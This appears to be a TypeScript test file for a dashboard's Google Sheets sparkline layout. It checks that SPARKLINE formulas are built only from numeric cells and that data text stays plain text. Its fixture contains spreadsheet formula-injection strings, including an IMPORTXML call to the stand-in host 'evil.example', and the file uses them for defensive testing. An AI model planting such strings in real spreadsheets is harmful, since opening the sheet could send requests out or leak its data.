// Sparklines on the layout: Sheets' SPARKLINE over the trend table's own cells, built from numbers, never from text.

import { boxA1, type Layout, sparklineFormula } from '../../src/dashboard/grid';
import { layoutDashboard } from '../../src/dashboard/layout';
import { trendRun } from '../../src/dashboard/layout-sparklines';
import { buildDashboardModel } from '../../src/dashboard/model';
import { DEFAULT_SETTINGS } from '../../src/model/settings';
import { DEALS, MARCH_2024, table, TARGETS } from './fixtures';

const at = (layout: Layout, row: number, column: number) => layout.cells[row - 1][column - 1];

/** The layout of March 2024 over deals whose owner, source and lost reason are written to look like formulas or tab names. */
function build(lang: 'fr' | 'en', deals: readonly (readonly unknown[])[] = DEALS): Layout {
  const settings = lang === 'fr' ? { ...DEFAULT_SETTINGS, locale: 'fr_FR' } : DEFAULT_SETTINGS;
  const input = { tables: { deals: table('deals', deals, settings), targets: table('targets', TARGETS, settings) }, settings };
  return layoutDashboard(buildDashboardModel(input, MARCH_2024, lang, settings, { generatedAt: '2024-04-01 06:00' }));
}

const HOSTILE_DEALS = [
  ...DEALS,
  ['D7', '2024-03-03', '2024-03-21', 'Won', 400, "KPI'!A1:A9),IMPORTXML(\"http://evil.example\"", '=SPARKLINE(A1:A2)', ''],
  ['D8', '2024-03-04', '2024-03-22', 'Lost', 300, "'Deals'!B2", '+1', '=SPARKLINE(Z1:Z9,{"color","red"})'],
];

describe('sparklines on the dashboard layout', () => {
  const en = build('en');

  test('the revenue tile has a "Last 12 months" line whose sparkline draws the revenue column of the trend table', () => {
    const spark = en.sparklines.find((s) => at(en, s.row, s.column - 1) === 'Last 12 months');
    if (!spark) throw new Error('no sparkline under a headline tile');
    expect(at(en, spark.row, spark.column)).toBe(sparklineFormula(spark.data));
    expect(at(en, findRow(en, 'Month'), spark.data.column)).toBe('Revenue');
    // February and March 2024, the months with data: 2000 and 4000 € of revenue won.
    expect(spark.data.numRows).toBe(2);
    expect([at(en, spark.data.row, spark.data.column), at(en, spark.data.row + 1, spark.data.column)]).toEqual([2000, 4000]);
    expect(spark.data.numColumns).toBe(1);
  });

  test('a "Trend line" row under the trend table draws each column over the cells right above it', () => {
    const row = findRow(en, 'Trend line');
    const inRow = en.sparklines.filter((s) => s.row === row);
    expect(inRow.length).toBeGreaterThan(2);
    for (const s of inRow) {
      expect(s.column).toBe(s.data.column);
      expect(s.data.row + s.data.numRows).toBe(row);
      for (let r = s.data.row; r < row; r++) expect(typeof at(en, r, s.column)).toBe('number');
    }
    expect(at(build('fr'), findRow(build('fr'), 'Courbe'), 2)).toBe('Courbe');
  });

  test('sparkline cells are the only cells not formatted as text, and only hold =SPARKLINE(A1:A2)-shaped formulas', () => {
    for (const layout of [en, build('fr', HOSTILE_DEALS), build('en', HOSTILE_DEALS)]) {
      const spark = new Set(layout.sparklines.map((s) => `${s.row},${s.column}`));
      layout.cells.forEach((row, r) => {
        row.forEach((value, c) => {
          if (typeof value !== 'string' || value === '') return;
          if (spark.has(`${r + 1},${c + 1}`)) {
            expect(value).toMatch(/^=SPARKLINE\([A-Z]+\d+:[A-Z]+\d+\)$/);
            expect(layout.numberFormats[r][c]).toBe('');
          } else expect(layout.numberFormats[r][c]).toBe('@');
        });
      });
    }
  });

  test('text from the data that looks like a sparkline or a tab reference stays plain text', () => {
    const layout = build('en', HOSTILE_DEALS);
    const hostile = ['=SPARKLINE(Z1:Z9,{"color","red"})', "KPI'!A1:A9),IMPORTXML(\"http://evil.example\""];
    for (const text of hostile) {
      const r = layout.cells.findIndex((row) => row.includes(text));
      expect(r).toBeGreaterThanOrEqual(0);
      expect(layout.numberFormats[r][layout.cells[r].indexOf(text)]).toBe('@');
    }
    for (const s of layout.sparklines) expect(String(at(layout, s.row, s.column))).not.toMatch(/[!'"{}]/);
  });

  test('a run of months leaves out the months without a value before the last one with none, and needs two months', () => {
    const n = (value: number | null) => ({ value, unit: 'count' as const });
    expect(trendRun([n(1), n(null), n(3), n(4)], 10, 5)).toEqual({ row: 12, column: 5, numRows: 2, numColumns: 1 });
    expect(trendRun([n(1), n(2), n(null)], 10, 5)).toBeNull();
    expect(trendRun([n(null), n(4)], 10, 5)).toBeNull();
  });

  test('a formula is made of whole positive row and column numbers only', () => {
    expect(boxA1({ row: 3, column: 28, numRows: 12, numColumns: 1 })).toBe('AB3:AB14');
    expect(() => sparklineFormula({ row: 0, column: 2, numRows: 1, numColumns: 1 })).toThrow();
    expect(() => sparklineFormula({ row: 2, column: 1.5, numRows: 1, numColumns: 1 })).toThrow();
    expect(() => sparklineFormula({ row: 2, column: 2, numRows: Number.NaN, numColumns: 1 })).toThrow();
  });
});

function findRow(layout: Layout, text: string): number {
  const r = layout.cells.findIndex((row) => row.includes(text));
  if (r < 0) throw new Error(`${text} not on the tab`);
  return r + 1;
}
